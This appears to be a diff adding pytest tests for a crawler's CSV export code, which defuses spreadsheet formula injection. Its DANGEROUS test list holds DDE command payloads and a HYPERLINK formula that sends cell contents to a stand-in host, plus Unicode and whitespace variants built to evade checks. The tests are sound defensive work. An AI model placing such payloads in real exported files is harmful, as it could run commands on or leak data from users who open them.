@@ -1,0 +1,114 @@
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from crawler.exports.spreadsheet import FORMULA_STARTS, as_csv, defuse, restore
+
+DANGEROUS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"ivory")',
+    "+1-555-0100 call me",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+]
+MANGLED = [
+    "123456789012",
+    "12345678901234567890",
+    "007",
+    "12E5",
+    "1,5e10",
+    "1-2",
+    "3/4",
+    "12.11.2026",
+    "2026-11-24",
+    "12:30",
+]
+PLAIN = [
+    "",
+    "Ivory carving, 1920s",
+    "Python regius cb24 -50%",
+    "12 tortoiseshell combs",
+    "象牙",
+    "1234",
+    "£1,200.00",
+    "12.50 EUR",
+    "o'Reilly",
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_a_title_that_could_run_is_defused(text: str) -> None:
+    assert defuse(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", MANGLED)
+def test_a_number_as_published_stays_text(text: str) -> None:
+    assert defuse(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_plain_text_is_left_alone(text: str) -> None:
+    assert defuse(text) == text
+
+
+@given(st.text())
+def test_every_text_comes_back_and_none_begins_like_a_formula(text: str) -> None:
+    cell = defuse(text)
+    assert restore(cell) == text
+    assert cell[:1] not in FORMULA_STARTS or not cell
+
+
+@given(
+    st.lists(
+        st.text(
+            st.characters(exclude_categories=["Cs"], exclude_characters="\0"),
+            max_size=40,
+        )
+    )
+)
+def test_csv_gives_back_every_published_text(texts: list[str]) -> None:
+    written = as_csv(["title"], [{"title": text} for text in texts], own=())
+    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
+    assert [restore(row[0]) if row else "" for row in rows[1:]] == texts
+
+
+def test_csv_opens_as_utf8_in_excel_and_keeps_our_own_columns() -> None:
+    rows = [{"title": "象牙", "seen": "2026-11-24T10:00:00Z", "day": "2026-11-24"}]
+    written = as_csv(["title", "seen", "day"], rows, own=("seen", "day"))
+    assert written.startswith(b"\xef\xbb\xbf")
+    assert written.decode("utf-8-sig") == (
+        "title,seen,day\r\n象牙,2026-11-24T10:00:00Z,2026-11-24\r\n"
+    )
+
+
+def test_csv_writes_numbers_bare_none_empty_and_truth_as_one_or_zero() -> None:
+    row = {"a": 3, "b": -2.5, "c": None, "d": True}
+    written = as_csv(["a", "b", "c", "d"], [row], own=())
+    assert written.decode("utf-8-sig").splitlines()[1] == "3,-2.5,,1"
+
+
+def test_a_row_without_a_column_is_an_error_not_an_empty_cell() -> None:
+    with pytest.raises(KeyError, match="price"):
+        as_csv(["title", "price"], [{"title": "x"}], own=())
+
+
+def test_a_lone_surrogate_is_replaced_and_nothing_is_lost() -> None:
+    written = as_csv(["title"], [{"title": "ivory \ud800 tusk"}], own=())
+    assert "ivory ? tusk" in written.decode("utf-8-sig")
